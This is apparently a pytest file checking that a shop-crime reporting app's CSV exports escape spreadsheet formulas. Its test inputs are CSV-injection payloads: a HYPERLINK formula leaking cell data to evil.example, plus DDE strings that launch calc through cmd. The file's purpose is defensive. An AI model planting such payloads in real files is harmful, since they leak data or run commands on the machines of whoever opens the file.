"""Every CSV ShopWatch writes neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.test import Client

from shopwatch.core.apikeys import apikey_create
from shopwatch.core.csvexport import csv_writer, safe_cell
from shopwatch.core.models import User
from shopwatch.evidence.services import evidence_add
from shopwatch.reporting.imports import ImportReport, RowError, write_error_report
from shopwatch.reporting.services import OffenderInput
from shopwatch.subjects.services import person_create
from tests.core.support import sign_in_verified
from tests.evidence.images import jpeg_bytes
from tests.world import World

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _cells(text: str) -> set[str]:
    return {cell for row in _rows(text) for cell in row}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(value: str) -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["name", value])
    assert _rows(out.getvalue()) == [["name", "'" + value]]


@pytest.mark.parametrize("value", ["-3", "+12.5%", "-0.4%", 7, -7, 2.5, None, "Fletcher", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == ("" if value is None else value)


def _hostile_person(world: World, given: str, family: str):  # type: ignore[no-untyped-def]
    return person_create(
        viewer=world.viewer("partnership_manager"),
        owner_org=world.orgs["brighton-bcrp"],
        given_name=given,
        family_name=family,
        aliases=["@alias(A1)"],
    )


def test_the_people_export(world: World) -> None:
    _hostile_person(world, HOSTILE[0], HOSTILE[1])
    client = Client()
    client.force_login(world.users["reporter"])
    text = client.get("/people/export.csv").content.decode()
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["given_name"])
    assert row["given_name"] == "'" + HOSTILE[0]
    assert row["family_name"] == "'" + HOSTILE[1]
    assert row["aliases"].startswith("'@alias")


def test_the_dashboard_export_top_offenders(world: World) -> None:
    person = _hostile_person(world, "=1+1", "-2+3+cmd")
    world.report("reporter", "nw-brighton", offenders=[OffenderInput(person_id=person.pk)])
    client = Client()
    sign_in_verified(client, world.users["partnership_manager"])
    text = client.get("/insights/partnership/brighton-bcrp/export.csv").content.decode()
    assert "'=1+1 -2+3+cmd" in _cells(text)
    assert not any(cell.startswith("=") for cell in _cells(text))


def test_the_evidence_bundle_manifest(world: World) -> None:
    incident = world.report("reporter", "nw-brighton", report_to_police=True)
    name = "=HYPERLINK(A1).jpg"
    evidence_add(
        viewer=world.viewer("reporter"), incident=incident, fileobj=io.BytesIO(jpeg_bytes()), filename=name
    )
    user = User.objects.get(pk=world.users["police_sussex"].pk)
    secret = apikey_create(viewer=world.viewer("police_sussex"), user=user, name="t").secret
    response = Client().get(
        f"/api/v1/incidents/{incident.pk}/evidence/bundle", headers={"Authorization": f"Bearer {secret}"}
    )
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))  # type: ignore[attr-defined]
    manifest = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert [m["original_filename"] for m in manifest] == ["'" + name]


def test_the_import_error_report(tmp_path: Path) -> None:
    report = ImportReport(path=tmp_path / "back-file.csv")
    report.errors.append(RowError(row=2, field="store", message="=cmd|' /C calc'!A0 is not a store"))
    target = write_error_report(report)
    assert target is not None
    row = _rows(target.read_text(encoding="utf-8"))[1]
    assert row == ["2", "store", "'=cmd|' /C calc'!A0 is not a store"]
